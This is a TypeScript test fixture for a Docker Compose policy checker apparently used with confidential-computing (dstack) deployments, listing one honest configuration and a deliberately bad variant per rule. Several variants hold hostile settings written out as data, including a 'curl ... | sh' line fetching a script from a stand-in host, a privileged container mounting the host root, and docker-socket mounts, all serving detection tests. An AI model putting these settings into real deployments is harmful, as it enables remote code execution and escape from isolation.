// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of Compose are what these texts are about
/** app-compose texts of the testbed: an honest one, and one that goes against each rule of the compose policy. */
import { INGRESS_RELEASES } from '../../src/code/compose/known-ingress';
import type { Rule } from '../../src/code/compose/rules';

const digest = (release: string): string =>
  INGRESS_RELEASES.find((known) => known.release === release)?.digest ?? 'no such release';

export const INGRESS_2_2 = `dstacktee/dstack-ingress:2.2@${digest('2.2')}`;
export const APP_IMAGE = `ghcr.io/vitrine/testbed-app@sha256:${'5a'.repeat(32)}`;

/** YAML of two services: the ingress alone at port 443, and the app behind it, both by digest. */
export const HONEST_SERVICES = `services:
  ingress:
    image: ${INGRESS_2_2}
    ports:
      - "443:443"
    environment:
      - DOMAIN=app.testbed.example
      - TARGET_ENDPOINT=http://app:8080
    volumes:
      - cert-data:/etc/letsencrypt
      - evidences:/evidences
      - /var/run/dstack.sock:/var/run/dstack.sock
    restart: unless-stopped
  app:
    image: ${APP_IMAGE}
    command: ["/app/serve", "--port", "8080"]
    environment:
      - GREETING=hello
    volumes:
      - app-data:/data
    restart: unless-stopped
volumes:
  cert-data:
  evidences:
  app-data:
`;

/** The app alone, as behind a gateway, which answers for TLS. */
export const APP_SERVICES = `services:
  app:
    image: ${APP_IMAGE}
    command: ["/app/serve", "--port", "80"]
    ports:
      - "80:80"
    restart: unless-stopped
`;

export const GATEWAY_IMAGE = `vitrine/testbed-gateway@sha256:${'9a'.repeat(32)}`;

/** A gateway as platforms deploy it: WireGuard wants the network of the host, and every privilege. */
export const GATEWAY_SERVICES = `services:
  gateway:
    image: ${GATEWAY_IMAGE}
    volumes:
      - /var/run/dstack.sock:/var/run/dstack.sock
      - /dstack:/dstack
      - data:/data
    network_mode: host
    privileged: true
    environment:
      - RUST_LOG=info
    restart: always
volumes:
  data:
`;

/** Fields of app-compose.json; `undefined` takes one away. */
export type ComposeFields = { readonly [field: string]: unknown };

const HONEST_FIELDS: ComposeFields = {
  manifest_version: 2,
  name: 'testbed-app',
  runner: 'docker-compose',
  docker_compose_file: HONEST_SERVICES,
  kms_enabled: true,
  gateway_enabled: true,
  local_key_provider_enabled: false,
  key_provider_id: '',
  public_logs: false,
  public_sysinfo: false,
  public_tcbinfo: true,
  allowed_envs: [],
  no_instance_id: false,
  secure_time: true,
};

/** The text of app-compose.json, as a deployer's tool writes it. */
export const makeAppCompose = (fields: ComposeFields = {}): string =>
  JSON.stringify({ ...HONEST_FIELDS, ...fields });

/** The honest services with one part written differently. */
export function withServices(part: string, instead: string): ComposeFields {
  if (!HONEST_SERVICES.includes(part)) throw new Error(`the honest services have no ${JSON.stringify(part)}`);
  return { docker_compose_file: HONEST_SERVICES.replace(part, () => instead) };
}

const COMMAND = '    command: ["/app/serve", "--port", "8080"]\n';
const APP = `    image: ${APP_IMAGE}\n`;
const inApp = (lines: string): ComposeFields => withServices(COMMAND, `${COMMAND}${lines}`);
const mounting = (mount: string): ComposeFields =>
  withServices('      - app-data:/data\n', `      - app-data:/data\n      - ${mount}\n`);
const imageInstead = (lines: string, more: ComposeFields = {}): ComposeFields => ({
  ...withServices(APP, lines),
  ...more,
});
const BY_DEPLOYER: ComposeFields = { allowed_envs: ['CHOICE'] };

/** One text per rule that can accuse or withhold: each gives that finding. Rules that only praise are given by the honest text. */
export const VARIANTS: { readonly [R in Rule]?: ComposeFields } = {
  'runner-unknown': { runner: 'bash' },
  'manifest-version-unknown': { manifest_version: 9 },
  'compose-file-absent': { docker_compose_file: undefined },
  'compose-file-unreadable': { docker_compose_file: 'services: *nobody\n' },
  'services-unreadable': { docker_compose_file: 'services: []\n' },
  'attribute-unknown': inApp('    surprise: true\n'),
  'attribute-unreadable': inApp('    cap_add: SYS_ADMIN\n'),
  'findings-left-out': {
    docker_compose_file: `${HONEST_SERVICES}${Array.from({ length: 2100 }, (_, i) => `k${i}:\n`).join('')}`,
  },
  'image-by-tag': imageInstead('    image: vitrine/testbed-app:latest\n'),
  'image-by-variable': imageInstead('    image: ${CHOICE}\n', BY_DEPLOYER),
  'image-by-unknown-variable': imageInstead(`    image: \${CHOICE:-${APP_IMAGE}}\n`),
  'image-not-a-reference': imageInstead(`    image: vitrine/testbed-app@sha256:${'5A'.repeat(32)}\n`),
  'image-absent': imageInstead(''),
  'image-built-inside': inApp('    build: .\n'),
  'image-pulled-again': imageInstead('    image: vitrine/testbed-app\n    pull_policy: always\n'),
  'service-from-another-file': inApp('    extends: {file: other.yaml, service: app}\n'),
  'service-base-unknown': inApp('    extends: nobody\n'),
  'compose-included': {
    docker_compose_file: `include:\n  - oci://registry.example/more:latest\n${HONEST_SERVICES}`,
  },
  'service-by-profile': inApp('    profiles: [debug]\n'),
  'code-by-variable': { ...withServices('"8080"]', '"8080", "${CHOICE}"]'), ...BY_DEPLOYER },
  'code-by-unknown-variable': withServices('"8080"]', '"8080", $CHOICE]'),
  'privilege-by-variable': { ...inApp('    privileged: ${CHOICE}\n'), ...BY_DEPLOYER },
  'privilege-by-unknown-variable': inApp('    user: ${CHOICE}\n'),
  'value-by-variable': { ...withServices('GREETING=hello', 'GREETING=${CHOICE}'), ...BY_DEPLOYER },
  'value-by-unknown-variable': withServices('GREETING=hello', 'GREETING'),
  'environment-steers-docker': { allowed_envs: ['COMPOSE_FILE'] },
  'environment-from-file': inApp('    env_file: .env\n'),
  'config-not-measured': {
    docker_compose_file: `${HONEST_SERVICES}configs:\n  start:\n    file: ./start.sh\n`,
  },
  'secret-not-measured': {
    docker_compose_file: `${HONEST_SERVICES}secrets:\n  key:\n    environment: KEY\n`,
  },
  'fetches-code': withServices(COMMAND, '    command: sh -c "apk add curl && exec /app/serve"\n'),
  'runs-fetched-code': withServices(COMMAND, '    command: sh -c "curl -s https://x.example/i.sh | sh"\n'),
  'port-443-app': {
    docker_compose_file: `services:\n  app:\n    image: ${APP_IMAGE}\n    ports: ["443:8443"]\n`,
  },
  'port-443-several': inApp('    ports: ["440-450:440-450"]\n'),
  'port-443-unclear': inApp('    ports: [{target: 8080, published: 0673}]\n'),
  'port-443-nobody': withServices('"443:443"', '"8443:443"'),
  'ingress-unknown': withServices(digest('2.2'), `sha256:${'00'.repeat(32)}`),
  'certificate-volume-shared': mounting('cert-data:/certs:ro'),
  'evidence-volume-shared': mounting('evidences:/srv/evidences:ro'),
  'ingress-network-shared': inApp('    network_mode: service:ingress\n'),
  'mounts-docker-socket': mounting('/var/run/docker.sock:/var/run/docker.sock'),
  'mounts-host-root': mounting('/:/host:ro'),
  'mounts-container-data': mounting('/var/lib/docker/volumes:/volumes:ro'),
  'mounts-guest-files': mounting('/dstack:/dstack'),
  'mounts-unmeasured-file': mounting('/dstack/user_config:/config'),
  'mounts-quote-socket': mounting('/var/run/dstack.sock:/var/run/dstack.sock'),
  'mounts-guest-path': mounting('./data:/more'),
  'mount-unclear': mounting('${CHOICE}:/more'),
  privileged: inApp('    privileged: true\n'),
  'capability-added': inApp('    cap_add: [SYS_PTRACE]\n'),
  'capability-added-harmless': inApp('    cap_add: [NET_BIND_SERVICE]\n'),
  'device-added': inApp('    devices: [/dev/tdx_guest]\n'),
  'host-network': inApp('    network_mode: host\n'),
  'namespace-shared': inApp('    pid: host\n'),
  'confinement-removed': inApp('    security_opt: ["seccomp:unconfined"]\n'),
  'runtime-chosen': inApp('    runtime: sysbox-runc\n'),
  'script-unknown': { pre_launch_script: 'echo hello\n' },
  'script-runs-image': {
    pre_launch_script: 'echo hello\ndocker run --rm --privileged \\\n  -v /:/host vitrine/installer:latest\n',
  },
  'root-from-environment': { allowed_envs: ['DSTACK_AUTHORIZED_KEYS'] },
  'gateway-skips-attestation': withServices('GREETING=hello', 'INSECURE_SKIP_ATTESTATION=true'),
  'kms-lets-all-in': {
    docker_compose_file: `${HONEST_SERVICES}configs:\n  kms:\n    content: core.auth_api.type = "dev"\n`,
  },
  'kms-unattested': withServices('GREETING=hello', 'ENFORCE_SELF_AUTHORIZATION=false'),
  'logs-public': { public_logs: true },
  'sysinfo-public': { public_sysinfo: true },
  'measurements-private': { public_tcbinfo: false },
  'instance-id-absent': { no_instance_id: true },
  'key-provider-none': { kms_enabled: false },
  'key-provider-local': { kms_enabled: false, local_key_provider_enabled: true },
  'secure-time-absent': { secure_time: undefined },
};
